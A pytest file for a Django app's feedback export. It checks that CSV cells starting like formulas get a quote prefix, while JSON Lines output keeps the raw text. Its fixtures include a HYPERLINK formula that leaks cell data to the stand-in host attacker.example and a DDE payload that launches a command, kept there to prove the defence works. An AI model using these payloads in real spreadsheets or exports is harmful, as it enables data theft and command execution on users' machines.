"""The CSV export (command and download) neutralises text a spreadsheet would
run as a formula; JSON Lines keeps the raw text."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from museapp.agents.models import AgentRun, Contemplation
from museapp.chat.models import Conversation, Message
from museapp.feedback.export import csv_cell
from museapp.feedback.models import BestDraftPick, Rating

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
ORDINARY = "Is 2 + 2 = 4? Yes - and -5 < 0."


def rated(user, *, prompt: str, answer: str, comment: str) -> Message:
    conversation = Conversation.objects.create(user=user)
    Message.objects.create(conversation=conversation, author="user", content=prompt)
    message = Message.objects.create(conversation=conversation, author="assistant", content=answer, status="done",
                                     model="openai/fake-model", total_ms=1200)
    Rating.objects.create(user=user, message=message, value=1, comment=comment)
    return message


@pytest.fixture
def hostile(user):
    """An attacker's payloads in a prompt, an answer and a comment, a negative
    number as text, and one ordinary row."""
    return [
        rated(user, prompt=HYPERLINK, answer=HYPERLINK, comment=HYPERLINK),
        rated(user, prompt=DDE, answer=DDE, comment=DDE),
        rated(user, prompt="-5", answer="-5", comment="-5"),
        rated(user, prompt=ORDINARY, answer=ORDINARY, comment=ORDINARY),
    ]


def command_output(*args: str) -> str:
    out = io.StringIO()
    call_command("export_feedback", *args, stdout=out)
    return out.getvalue()


def download(client, query: str) -> str:
    response = client.get(f"/insights/export/?{query}")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def text_cells(table: str) -> list[tuple[str, str, str]]:
    return [(row["prompt"], row["answer"], row["comment"]) for row in csv.DictReader(io.StringIO(table))]


EXPECTED = [
    ("'" + HYPERLINK,) * 3,
    ("'" + DDE,) * 3,
    ("'-5",) * 3,
    (ORDINARY,) * 3,
]


def test_the_command_prefixes_formulas_in_prompts_answers_and_comments(hostile):
    assert text_cells(command_output("--format", "csv")) == EXPECTED


def test_the_download_prefixes_them_too(client, analyst, hostile):
    client.force_login(analyst)

    assert text_cells(download(client, "format=csv")) == EXPECTED


def test_numbers_stay_numbers(hostile):
    row = next(csv.DictReader(io.StringIO(command_output("--format", "csv"))))

    assert row["latency_ms"] == "1200.0" and row["message_id"] == str(hostile[0].pk)


def test_jsonl_keeps_the_raw_text(client, analyst, hostile):
    client.force_login(analyst)

    for lines in (command_output("--format", "jsonl"), download(client, "format=jsonl")):
        rows = [json.loads(line) for line in lines.splitlines()]
        assert [(r["prompt"], r["answer"], r["comment"]) for r in rows] == [
            (HYPERLINK,) * 3, (DDE,) * 3, ("-5",) * 3, (ORDINARY,) * 3,
        ]


def test_preference_pairs_in_csv_are_prefixed_as_well(client, analyst, user):
    message = rated(user, prompt=HYPERLINK, answer="merged", comment="")
    contemplation = Contemplation.objects.create(message=message, strategy="vote", strategy_used="vote",
                                                 agent_count=2, deadline_s=60, status="done")
    chosen = AgentRun.objects.create(contemplation=contemplation, index=0, role="a", model="m", text=DDE,
                                     status="done")
    AgentRun.objects.create(contemplation=contemplation, index=1, role="b", model="m", text="+1 for me",
                            status="done")
    BestDraftPick.objects.create(user=user, message=message, run=chosen)
    client.force_login(analyst)

    for table in (command_output("--format", "csv", "--pairs"), download(client, "format=csv&pairs=1")):
        [pair] = csv.DictReader(io.StringIO(table))
        assert (pair["prompt"], pair["chosen"], pair["rejected"]) == ("'" + HYPERLINK, "'" + DDE, "'+1 for me")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-5", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain text", "", " =1", "a=1", "'=1", 5, -5, 0.25, None])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def test_lists_become_json_text():
    assert csv_cell(["=1", "b"]) == '["=1", "b"]'
